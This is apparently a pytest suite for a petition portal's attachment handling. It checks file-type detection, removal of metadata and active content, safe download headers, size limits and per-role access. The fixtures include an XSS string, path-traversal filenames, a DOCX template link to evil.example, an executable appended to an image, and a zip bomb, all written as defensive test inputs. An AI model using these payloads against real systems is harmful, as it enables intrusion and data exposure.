"""M1: what may be attached, by content; what people get of it; and who may."""

import hashlib
import io
import re
import zipfile
from dataclasses import replace
from typing import Any

import docx
import pikepdf
import pytest
from PIL import Image
from sqlalchemy import select

from services.intake.attachments.models import Attachment, AttachmentContent
from services.intake.attachments.pictures import MOST_PIXELS, clean_copy
from services.intake.attachments.queries import content_of
from services.intake.attachments.rules import MOST_FILES, MOST_UNPACKED, Kind, kind_of
from services.intake.identities.vault import vault_of
from tests.factories import new_petition
from tests.ground import Ground, clear_memory_bus
from tests.intake.files import BAD, DOCX, EXE, GOOD, HEIC, PDF, form, package, picture
from tests.intake.steps import accepted, step
from tests.intake.test_portal import look, submitted


def add(ground: Ground, code: str, *files: tuple[str, bytes]) -> Any:
    client = ground.client("intake", None)
    path = "/api/portal/attachments"
    return client.post(path, data=form(*files, code=code), content_type="multipart/form-data")


def listed(ground: Ground, petition_id: str, by: str = "clerk-1") -> Any:
    return ground.client("intake", by).get(f"/api/petitions/{petition_id}/attachments")


def contents(ground: Ground) -> dict[bool, bytes | None]:
    """What is kept of the only file, opened: the original under False, the cleaned copy under True."""
    intake = ground.instance("intake")
    with intake.db.read() as session:
        file = session.scalars(select(Attachment)).one()
        return {
            clean: content_of(session, file, vault_of(intake), clean=clean)
            for clean in session.scalars(select(AttachmentContent.clean))
        }


def download(ground: Ground, petition_id: str, by: str = "clerk-1", place: int = 1) -> Any:
    file = next(f for f in listed(ground, petition_id).json if f["place"] == place)
    return ground.client("intake", by).get(f"/api/petitions/{petition_id}/attachments/{file['id']}/file")


@pytest.mark.parametrize("what", GOOD)
def test_a_kind_is_told_by_its_content(what: str) -> None:
    data, kind = GOOD[what]
    assert kind_of(data) == kind


def test_a_petitioner_adds_files_of_every_kind(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    kinds = list(GOOD)[:MOST_FILES]
    answer = add(stepped, code, *((f"照片{n}.exe", GOOD[what][0]) for n, what in enumerate(kinds)))
    assert answer.status_code == 201, answer.text
    assert [file["kind"] for file in answer.json] == [GOOD[what][1] for what in kinds]
    shown = look(stepped, code).json["attachments"]
    assert [(f["name"], f["size"]) for f in shown] == [
        (f"照片{n}.exe", len(GOOD[what][0])) for n, what in enumerate(kinds)
    ]
    assert {file["by"] for file in listed(stepped, petition["id"]).json} == {"petitioner"}


@pytest.mark.parametrize("what", BAD)
@pytest.mark.parametrize("name", ["证据.pdf", "photo.jpg"])
def test_what_is_not_taken_is_refused_with_its_place_and_nothing_is_kept(
    stepped: Ground, what: str, name: str
) -> None:
    _petition, code = submitted(stepped)
    answer = add(stepped, code, ("good.pdf", PDF), (name, BAD[what]))
    assert answer.status_code == 422
    (message,) = answer.json["errors"]["files"]
    assert "ile 2" in message and name not in answer.text
    assert stepped.rows("intake", Attachment) == []


def test_heic_is_taken_and_becomes_jpeg() -> None:
    copy, kind = clean_copy(HEIC, Kind.HEIC, 1)
    assert b"MARKED" in HEIC and b"MARKED" not in copy and kind is Kind.JPEG
    with Image.open(io.BytesIO(copy)) as image:
        assert (image.format, image.size) == ("JPEG", (64, 48))


def test_a_picture_is_given_out_without_where_and_with_what_it_was_taken(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    original = picture("JPEG", exif=True)
    assert b"MARKED-DEVICE" in original and b"MARKED-COMMENT" in original
    add(stepped, code, ("甲某的照片.jpg", original))
    (file,) = listed(stepped, petition["id"]).json
    assert (file["sha256"], file["size"]) == (hashlib.sha256(original).hexdigest(), len(original))
    answer = download(stepped, petition["id"])
    assert answer.status_code == 200 and b"MARKED" not in answer.data
    with Image.open(io.BytesIO(answer.data)) as copy:
        assert (copy.format, copy.size, dict(copy.getexif())) == ("JPEG", (40, 60), {})  # turned upright
    assert contents(stepped) == {False: original, True: answer.data}
    kept = b"".join(c.sealed for c in stepped.rows("intake", AttachmentContent))
    assert b"MARKED" not in kept and answer.data not in kept


@pytest.mark.parametrize("kind", ["PNG", "WEBP"])
def test_other_pictures_lose_their_metadata_too(kind: str) -> None:
    data = picture(kind, exif=True)
    copy, _kind = clean_copy(data, Kind(kind.lower()), 1)
    assert b"MARKED" in data and b"MARKED" not in copy
    with Image.open(io.BytesIO(copy)) as image:
        assert image.format == kind and not image.getexif() and not image.info.get("exif")


def test_a_program_behind_a_picture_stays_with_the_original(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    assert add(stepped, code, ("a.jpg", picture("JPEG") + EXE)).status_code == 201
    assert b"DOS mode" not in download(stepped, petition["id"]).data


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "CMYK", "I;16"])
def test_pictures_of_every_mode_are_written_anew(mode: str) -> None:
    form_ = "JPEG" if mode == "CMYK" else "PNG"
    out = io.BytesIO()
    Image.new(mode, (8, 8)).save(out, form_)
    copy, _kind = clean_copy(out.getvalue(), Kind.JPEG if mode == "CMYK" else Kind.PNG, 1)
    with Image.open(io.BytesIO(copy)) as image:
        assert image.size == (8, 8)


def test_more_pixels_than_a_telephone_has_are_refused_before_they_are_decoded(stepped: Ground) -> None:
    _petition, code = submitted(stepped)
    side = int(MOST_PIXELS**0.5) + 1
    answer = add(stepped, code, ("big.png", picture("PNG", size=(side, side))))
    assert answer.status_code == 422 and "64 megapixels" in answer.text


def test_what_is_given_out_is_only_to_be_saved(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    add(stepped, code, ("甲某.docx", DOCX), ("甲某.txt", b"<script>alert(1)</script>"))
    for place, kind in ((1, "docx"), (2, "txt")):
        answer = download(stepped, petition["id"], place=place)
        name = f"{petition['number']}-{place}.{kind}"
        assert answer.headers["Content-Disposition"] == f'attachment; filename="{name}"'
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Security-Policy"].startswith("sandbox")
        assert answer.headers["Cache-Control"] == "no-store"
        assert "html" not in answer.headers["Content-Type"]


def test_ten_files_belong_to_a_petition(stepped: Ground) -> None:
    _petition, code = submitted(stepped)
    eleven = [(f"{n}.pdf", PDF) for n in range(11)]
    assert add(stepped, code, *eleven).status_code == 422
    assert add(stepped, code, *eleven[:8]).status_code == 201
    answer = add(stepped, code, *eleven[:3])
    assert answer.status_code == 422 and "8 already" in answer.text
    assert add(stepped, code, *eleven[:2]).status_code == 201
    assert add(stepped, code, ("1.pdf", PDF)).status_code == 409
    assert sorted(file.place for file in stepped.rows("intake", Attachment)) == list(range(1, 11))


def test_a_file_and_a_request_have_their_limits(settings: Any) -> None:
    clear_memory_bus()
    with Ground(replace(settings, max_attachment_bytes=2**20, max_upload_bytes=3 * 2**20)) as ground:
        _petition, code = submitted(ground)
        large = b"x" * (2**20 + 5)
        answer = add(ground, code, ("a.txt", large))
        assert answer.status_code == 422 and "more than 1 MB" in answer.text
        fits = [(f"{n}.pdf", large[:-5]) for n in range(4)]
        assert add(ground, code, *fits).status_code == 413
        assert add(ground, code, *fits[:2]).status_code == 201


@pytest.mark.parametrize("code", ["2222-3333-4444-5555", ""])
def test_a_wrong_code_adds_nothing(stepped: Ground, code: str) -> None:
    submitted(stepped)
    assert add(stepped, code, ("a.pdf", PDF)).status_code == 404
    assert stepped.rows("intake", Attachment) == []


def test_no_files_are_named(stepped: Ground) -> None:
    _petition, code = submitted(stepped)
    for files in ((), (("", b""),)):
        assert add(stepped, code, *files).status_code == 422


def test_the_clerk_adds_what_came_with_a_letter(stepped: Ground) -> None:
    petition = new_petition(stepped)
    path = f"/api/petitions/{petition['id']}/attachments"
    body = {"data": form(("scan.png", picture("PNG"))), "content_type": "multipart/form-data"}
    assert stepped.client("intake", "clerk-1").post(path, **body).status_code == 201
    assert stepped.client("intake", "office-1-a").post(path, data=form(("a.pdf", PDF))).status_code == 403
    (file,) = listed(stepped, petition["id"]).json
    assert (file["by"], file["name"]) == ("clerk-1", "scan.png")


@pytest.mark.parametrize(
    ("post", "status"),
    [
        ("clerk-1", 200),
        ("head", 200),
        ("leader-1", 200),
        ("office-1-a", 200),
        ("township-420324100", 200),
        ("leader-2", 404),
        ("office-2-a", 404),
        ("township-420324101", 404),
        ("office-6-a", 404),
        ("operator-1", 403),
        ("liaison-police", 403),
    ],
)
def test_who_may_see_the_petition_may_see_its_files(stepped: Ground, post: str, status: int) -> None:
    petition, code = submitted(stepped)
    add(stepped, code, ("a.pdf", PDF))
    step(stepped, petition, "accept", category="appeal", complained_of_units=["office-6"])
    stepped.carry()
    assert listed(stepped, petition["id"], post).status_code == status
    assert download(stepped, petition["id"], post).status_code == status


def test_a_file_is_found_under_its_own_petition_only(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    add(stepped, code, ("a.pdf", PDF))
    other = accepted(stepped)
    (file,) = listed(stepped, petition["id"]).json
    path = f"/api/petitions/{other['id']}/attachments/{file['id']}/file"
    assert stepped.client("intake", "clerk-1").get(path).status_code == 404


def test_the_name_that_was_given_is_cleaned(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    add(stepped, code, (f"{'长' * 300}\u202e照.pdf", PDF))
    (file,) = listed(stepped, petition["id"]).json
    assert len(file["name"]) == 200 and re.search("长照.pdf$", file["name"])


def test_a_pdf_is_given_out_without_what_acts_or_tells(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    assert PDF.count(b"MARKED") >= 6
    add(stepped, code, ("a.pdf", PDF))
    given = download(stepped, petition["id"]).data
    with pikepdf.open(io.BytesIO(given)) as copy:
        assert len(copy.pages) == 1 and not copy.docinfo and not copy.attachments
        plain = io.BytesIO()
        copy.save(plain, stream_decode_level=pikepdf.StreamDecodeLevel.generalized, compress_streams=False)
        (photo,) = copy.pages[0].images.values()
        assert pikepdf.PdfImage(photo).as_pil_image().size == (60, 40)
    for trace in (b"MARKED", b"/JavaScript", b"/Launch", b"/OpenAction", b"/EmbeddedFile", b"Exif"):
        assert trace not in plain.getvalue(), trace
    assert contents(stepped) == {False: PDF, True: given}


def test_a_picture_and_a_zip_at_once_becomes_a_picture(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    both = [("a.jpg", picture("JPEG") + DOCX), ("b.png", picture("PNG") + b"<html><script>x</script>")]
    assert add(stepped, code, *both, ("c.pdf", PDF + DOCX)).status_code == 201
    for place in (1, 2, 3):
        data = download(stepped, petition["id"], place=place).data
        assert b"PK\x03\x04" not in data and b"script" not in data


def test_word_is_given_out_without_who_wrote_it(stepped: Ground) -> None:
    document = docx.Document()
    document.core_properties.author = "MARKED-AUTHOR"
    run = document.add_paragraph("路灯坏了").add_run()
    run.add_picture(io.BytesIO(picture("JPEG", exif=True)))
    document.add_comment(run, "请看", author="MARKED-COMMENTATOR", initials="MK")
    out = io.BytesIO()
    document.save(out)
    petition, code = submitted(stepped)
    add(stepped, code, ("a.docx", out.getvalue()))
    given = download(stepped, petition["id"]).data
    copy = docx.Document(io.BytesIO(given))
    assert copy.paragraphs[0].text == "路灯坏了" and len(copy.inline_shapes) == 1
    with zipfile.ZipFile(io.BytesIO(given)) as package:
        assert not [name for name in package.namelist() if name.startswith("docProps")]
        assert not [name for name in package.namelist() if b"MARKED" in package.read(name)]


def test_a_file_that_would_fetch_something_does_not(stepped: Ground) -> None:
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="r1" TargetMode="External" Type="http://x/attachedTemplate" '
        'Target="http://evil.example/t.dotm"/></Relationships>'
    )
    parts = {"word__document.xml": "<w/>", "word___rels__settings.xml.rels": rels}
    petition, code = submitted(stepped)
    add(stepped, code, ("a.docx", package(**parts)))
    with zipfile.ZipFile(io.BytesIO(download(stepped, petition["id"]).data)) as given:
        assert b"evil" not in given.read("word/_rels/settings.xml.rels")


@pytest.mark.parametrize("name", ["../../etc/passwd", "C:\\x\\..\\a.txt", "\u202etxt.exe", "长" * 900])
def test_no_name_leads_anywhere(stepped: Ground, name: str) -> None:
    petition, code = submitted(stepped)
    assert add(stepped, code, (name, b"text")).status_code == 201
    answer = download(stepped, petition["id"])
    assert answer.headers["Content-Disposition"] == f'attachment; filename="{petition["number"]}-1.txt"'
    assert len(listed(stepped, petition["id"]).json[0]["name"]) <= 200


def test_originals_go_with_the_identity_and_copies_stay(stepped: Ground) -> None:
    petition, code = submitted(stepped)
    add(stepped, code, ("a.jpg", picture("JPEG", exif=True)), ("b.mp3", GOOD["mp3"][0]))
    path = f"/api/petitions/{petition['id']}/identity/erasure"
    erased = stepped.client("intake", "head").post(path, json={"reason": "依申请删除"})
    assert erased.status_code == 204
    assert download(stepped, petition["id"]).status_code == 200
    assert download(stepped, petition["id"], place=2).status_code == 404
    assert add(stepped, code, ("c.txt", b"more")).status_code == 409
    with stepped.instance("intake").db.read() as session:
        for file in session.scalars(select(Attachment)):
            vault = vault_of(stepped.instance("intake"))
            assert content_of(session, file, vault, clean=False) is None


def test_a_package_that_unpacks_to_too_much_is_refused_before_it_is_unpacked(stepped: Ground) -> None:
    _petition, code = submitted(stepped)
    out, piece = io.BytesIO(), b" " * 2**20
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("[Content_Types].xml", "<Types/>")
        with made.open("word/document.xml", "w") as part:
            for _ in range(MOST_UNPACKED // 2**20 + 1):
                part.write(piece)
    assert len(out.getvalue()) < 2**20
    assert add(stepped, code, ("bomb.docx", out.getvalue())).status_code == 422
